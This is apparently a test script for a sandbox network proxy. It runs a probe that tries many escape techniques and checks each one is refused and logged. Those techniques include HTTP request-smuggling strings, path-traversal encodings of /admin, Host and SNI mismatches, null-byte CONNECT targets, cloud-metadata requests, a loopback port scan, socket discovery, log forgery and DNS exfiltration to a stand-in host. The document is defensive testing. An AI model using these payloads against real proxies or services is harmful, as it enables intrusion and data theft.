"""Rows of the attack catalogue that need the real path: agent in the sandbox, gvmd, upstreams on loopback.

One probe program runs inside and prints what it saw as JSON; this script compares, and looks at what
reached the upstreams. Every refusal stands beside an ordinary call that works.
"""
import json
import os

import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import gvmtest

tap = gvmtest.Tap()
home = gvmtest.Home()
certs = gvmtest.Certificates(os.path.join(home.top, "certs"))
good = gvmtest.Echo(certs.issue("good.example.test"))
evil = gvmtest.Echo(certs.issue("evil.example.test"))
plain = gvmtest.Echo()
local = gvmtest.Echo()  # a service of the host on loopback
wild = gvmtest.Echo(certs.issue("a.wild.example.test"))
home.write_config(f"""
[policy]
default = {{ type = "Deny", reason = "default" }}
[[rules]]
name = "admin"
method = "*"
pattern = "good.example.test/admin/**"
decision = {{ type = "Deny", reason = "admin" }}
[[rules]]
name = "admin root"
method = "*"
pattern = "good.example.test/admin"
decision = {{ type = "Deny", reason = "admin" }}
[[rules]]
name = "good"
method = "*"
pattern = "good.example.test/**"
decision = {{ type = "Allow" }}
[[rules]]
name = "plain admin"
method = "*"
pattern = "plain.example.test/admin"
decision = {{ type = "Deny" }}
[[rules]]
name = "plain"
method = "*"
pattern = "plain.example.test/**"
decision = {{ type = "Allow" }}
[[rules]]
name = "propfind"
method = "*"
pattern = "a.wild.example.test/**"
decision = {{ type = "Allow" }}
[[rules]]
name = "rebind"
method = "*"
pattern = "localhost.example.test/**"
decision = {{ type = "Allow" }}
[[rules]]
name = "ip"
method = "*"
pattern = "127.0.0.1/**"
decision = {{ type = "Allow" }}
[[rules]]
name = "metadata"
method = "*"
pattern = "169.254.169.254/**"
private = true
decision = {{ type = "Allow" }}
""" + gvmtest.upstream_config(certs.ca, {
    "good.example.test": good.port, "evil.example.test": evil.port, "plain.example.test": plain.port,
    "a.wild.example.test": wild.port}))

PROBE = r'''
import json, os, select, socket, ssl, struct, sys, time, urllib.request, urllib.error
found = {}

def note(name, action):
    try:
        found[name] = action()
    except Exception as error:
        found[name] = f"{type(error).__name__}: {error}"

def tcp(host, port, timeout=8):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect((host, port))
    return s

def tls(host, port, sni, check=True):
    context = ssl.create_default_context()
    if not check:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(tcp(host, port), server_hostname=sni)

def read(s, limit=65536):
    out = b""
    try:
        while len(out) < limit:
            part = s.recv(4096)
            if not part:
                break
            out += part
            if b"\r\n\r\n" in out:
                head, _, body = out.partition(b"\r\n\r\n")
                for line in head.split(b"\r\n"):
                    if line.lower().startswith(b"content-length:") and len(body) >= int(line[15:]):
                        return out
    except OSError:
        pass
    return out

def status(s, text):
    s.sendall(text if isinstance(text, bytes) else text.encode())
    answer = read(s)
    return int(answer[9:12]) if answer.startswith(b"HTTP/1.") else repr(answer[:40])

def addr(name):
    return socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]

def get(url, method="GET"):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, method=method), timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code

GOOD, EVIL, PLAIN = addr("good.example.test"), addr("evil.example.test"), addr("plain.example.test")
def req(path="/x", host="good.example.test", method="GET", more=""):
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"
def good(text):
    return status(tls(GOOD, 443, "good.example.test"), text)

note("ordinary", lambda: good(req()))
note("ordinary plain", lambda: status(tcp(PLAIN, 80), req(host="plain.example.test")))
note("N3 host differs", lambda: good(req(host="evil.example.test")))
note("N3 sni differs", lambda: status(tls(GOOD, 443, "evil.example.test", False), req(host="evil.example.test")))
note("N5 no sni to an IP", lambda: status(tls("203.0.113.9", 443, None, False), req(host="203.0.113.9")))
note("N6 prior knowledge", lambda: status(tcp(PLAIN, 80), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
note("N8 http denied", lambda: get("http://plain.example.test/admin"))
note("N8 https denied", lambda: get("https://good.example.test/admin"))
def keepalive():
    s = tls(GOOD, 443, "good.example.test")
    return [status(s, req("/one")), status(s, req("/admin")), ]
note("N9 keep-alive", keepalive)
note("N9 other host", lambda: [lambda s: [status(s, req("/one")), status(s, req("/two", host="evil.example.test"))]][0](tls(GOOD, 443, "good.example.test")))
SMUGGLE = [
    "POST /x HTTP/1.1\r\nHost: good.example.test\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    "POST /x HTTP/1.1\r\nHost: good.example.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST /x HTTP/1.1\r\nHost: good.example.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "POST /x HTTP/1.1\r\nHost: good.example.test\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "GET /x HTTP/1.1\r\nHost: good.example.test\r\nX: a\r\n b\r\n\r\n",
    "GET /x HTTP/1.1\nHost: good.example.test\n\n",
    "GET /x HTTP/1.1\r\nHost: good.example.test\r\nHost: evil.example.test\r\n\r\n",
    "GET /x HTTP/1.1\r\nHost: good.example.test\r\nX: a\rb\r\n\r\n",
    "GET /x HTTP/1.1\r\n\r\n",
    "GET /x HTTP/1.1\r\nHost: good.example.test\r\nContent-Length: +5\r\n\r\nhello",
    "GET /x HTTP/1.1\r\nHost: good.example.test\r\nX\x00: a\r\n\r\n",
]
note("N7", lambda: [good(t) for t in SMUGGLE])
note("N18", lambda: [good(req(method="TRACE")), good(req(method="TRACK"))])
def udp(host, port):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    began = time.time()
    try:
        s.connect((host, port)); s.send(b"x" * 30); s.recv(100); return "answered"
    except OSError as e:
        return [type(e).__name__, time.time() - began < 1]
note("N16", lambda: [udp("8.8.8.8", 443), udp("1.1.1.1", 4433), udp("2001:4860:4860::8888", 443)])
note("N13 name of loopback", lambda: get("http://localhost.example.test:LOCALPORT/"))
note("metadata", lambda: get("http://169.254.169.254/latest/meta-data/"))
PATHS = ["/admin", "/public/../admin", "/public/%2e%2e/admin", "/public/%2E%2E/admin", "/public/..%2f..%2fadmin",
         "/public/%252e%252e/admin", "/admin%00.txt", "///admin", "////admin", "/admin/.", "/foo/../admin",
         "/public/..;/admin", "/%ff/%2e%2e/admin", "/%61dmin", "/public\\..\\admin", "/./admin", "/admin/x/.."]
note("P6", lambda: {p: good(req(p)) for p in PATHS})
note("P6 allowed", lambda: [good(req("/public/x")), good(req("/administrator"))])
note("P8", lambda: [status(tls(addr("a.wild.example.test"), 443, "a.wild.example.test"),
                           req(host="a.wild.example.test", method=m)) for m in ("PROPFIND", "QUERY", "INVENTED")])
note("P2 opaque", lambda: repr(status(tcp(EVIL, 22), b"SSH-2.0-x\r\n")))
note("P5", lambda: {h: good(f"GET /x HTTP/1.1\r\nHost: {h}\r\n\r\n") for h in (
    "GOOD.example.test", "good.example.test.", "good.example.test:443", "evil.com/.good.example.test",
    "x@good.example.test", "good.example.test:80a", "good..example.test", "good.example.test evil", "good.example.test:444")})
note("absolute form", lambda: good("GET https://good.example.test/x HTTP/1.1\r\nHost: good.example.test\r\n\r\n"))
note("absolute differs", lambda: good("GET https://evil.example.test/x HTTP/1.1\r\nHost: good.example.test\r\n\r\n"))
def connect(authority, host=None):
    s = tcp(GOOD, 443)
    return status(s, b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + (host or authority) + b"\r\n\r\n")
note("N1", lambda: [connect(b"evil.example.test\x00.good.example.test:443"), connect(b"evil\x01.good.example.test:443"),
                    connect(b"good.example.test%00:443"), connect(b"user@good.example.test:443")])
def scan():
    return [p for p in HOSTPORTS if not refused(p)]
def refused(port):
    try:
        s = tcp("127.0.0.1", port, 1)
        s.close()
        return False
    except OSError:
        return True
note("C1 loopback", scan)
note("C1 sockets", lambda: [p for p in ("RUNTIME/gvmd.sock", "/run/docker.sock", "/run/user", "/run/systemd",
                                        "/run/dbus/system_bus_socket", "/var/run/docker.sock") if os.path.exists(p)])
note("C11", lambda: [os.path.exists(p) for p in ("STATE", "STATE/ledger", "CONFIG")])
def write_state():
    os.makedirs("STATE/ledger", exist_ok=True)
    with open("STATE/ledger/checkpoint", "w") as f:
        f.write("forged")
    return "written inside"
note("C11 write", write_state)
note("names", lambda: [addr("good.example.test") == GOOD, GOOD.startswith("198.1"), EVIL != GOOD])
def dns(payload, how="udp"):
    if how == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(("9.9.9.9", 53)); s.send(payload)
        return s.recv(4096)
    s = tcp("9.9.9.9", 53); s.sendall(struct.pack(">H", len(payload)) + payload)
    n = struct.unpack(">H", s.recv(2))[0]
    return s.recv(n)
def question(name, qtype=1):
    return (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" +
            b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\x00" + struct.pack(">HH", qtype, 1))
note("dns udp", lambda: [dns(question(b"secret-data.exfil.example.test"))[3] & 15, len(dns(question(b"a.example.test", 28))) > 40])
note("dns tcp", lambda: dns(question(b"b.example.test"), "tcp")[3] & 15)
note("dns broken", lambda: dns(question(b"b.example.test")[:-5])[3] & 15)
print(json.dumps(found))
'''

def host_ports():
    """Listening TCP ports of the host, and ours."""
    ports = {local.port, plain.port, good.port}
    with open("/proc/net/tcp") as f:
        for line in f.readlines()[1:]:
            words = line.split()
            if words[3] == "0A":
                ports.add(int(words[1].split(":")[1], 16))
    return sorted(ports)

code = PROBE.replace("LOCALPORT", str(local.port)).replace("HOSTPORTS", repr(host_ports()))
for word, path in (("RUNTIME", home.runtime), ("STATE", home.state), ("CONFIG", home.config)):
    code = code.replace(word, path)
got = home.python(code, timeout=240)
try:
    seen = json.loads(got.stdout.splitlines()[-1])
except (IndexError, ValueError):
    tap.ok(False, "the probe ran", got.stdout[-2000:] + got.stderr + home.log()[-3000:])
    tap.done()

def expect(name, want):
    value = seen.get(name)
    tap.ok(want(value) if callable(want) else value == want, name, f"got {value!r}")

def refused_all(values):
    return isinstance(values, list) and all(v in (400, 403, 404, 405, 421, 501, "b''") or "Error" in str(v)
                                            for v in values)

expect("ordinary", 200)
expect("ordinary plain", 200)
expect("N3 host differs", 421)
expect("N3 sni differs", lambda v: v == 421 or "Error" in str(v) or v == "b''")
expect("N5 no sni to an IP", lambda v: v in (403, 421) or "Error" in str(v) or v == "b''")
# Our own front answers with its SETTINGS (frame type 4); what streams on it may do is in test_http2.py.
expect("N6 prior knowledge", lambda v: str(v).startswith(("b'\\x00\\x00", 'b"\\x00\\x00')) and "\\x04\\x00\\x00\\x00\\x00\\x00" in str(v))
expect("N8 http denied", 403)
expect("N8 https denied", 403)
expect("N9 keep-alive", [200, 403])
expect("N9 other host", [200, 421])
expect("N7", refused_all)
expect("N18", [405, 405])
expect("N16", lambda v: isinstance(v, list) and all(w != "answered" and w[1] for w in v))
expect("N13 name of loopback", lambda v: v in (403, 502))
expect("metadata", 403)
for path, value in (seen.get("P6") or {}).items() if isinstance(seen.get("P6"), dict) else []:
    tap.ok(value in (400, 403), f"P6 {path}", f"got {value!r}")
expect("P6 allowed", [200, 200])
expect("P8", [200, 200, 200])
expect("P2 opaque", lambda v: "200" not in str(v) and "SSH" not in str(v))
p5 = seen.get("P5") if isinstance(seen.get("P5"), dict) else {}
for spelling, want in (("GOOD.example.test", 200), ("good.example.test.", 200), ("good.example.test:443", 200),
                       ("evil.com/.good.example.test", 400), ("x@good.example.test", 400),
                       ("good.example.test:80a", 400), ("good..example.test", 400),
                       ("good.example.test evil", 400), ("good.example.test:444", 421)):
    tap.eq(p5.get(spelling), want, f"P5 Host: {spelling}")
expect("absolute form", 200)
expect("absolute differs", lambda v: v in (400, 421))
expect("N1", refused_all)
expect("C1 loopback", [])
expect("C1 sockets", [])
expect("C11", [False, False, False])
tap.ok(not os.path.exists(os.path.join(home.state, "ledger", "checkpoint")) or
       "forged" not in open(os.path.join(home.state, "ledger", "checkpoint")).read(), "C11 the real log is untouched")
expect("names", [True, True, True])
expect("dns udp", [0, True])
expect("dns tcp", 0)
expect("dns broken", 1)
tap.eq(len(evil.seen), 0, "nothing ever reached the host that no rule allows")
tap.eq(len(local.seen), 0, "nor a service on the host's loopback")
asked = [s["target"] for s in good.seen if "admin" in s["target"] and "administrator" not in s["target"]]
tap.eq(asked, [], "no spelling of /admin was forwarded")
names = {e.get("name") for e in home.events("--kind", "dns.query")}
tap.ok("secret-data.exfil.example.test" in names, "N12 the exfiltration name is in the log", names)
tap.ok(home.events("--kind", "dns.refused"), "a broken DNS packet is in the log")
refusals = home.events("--kind", "http.refused")
tap.ok(len(refusals) >= 10, "refused requests are in the log", len(refusals))
tap.eq(home.gvm("audit", "verify").returncode, 0, "and it verifies")
tap.done()
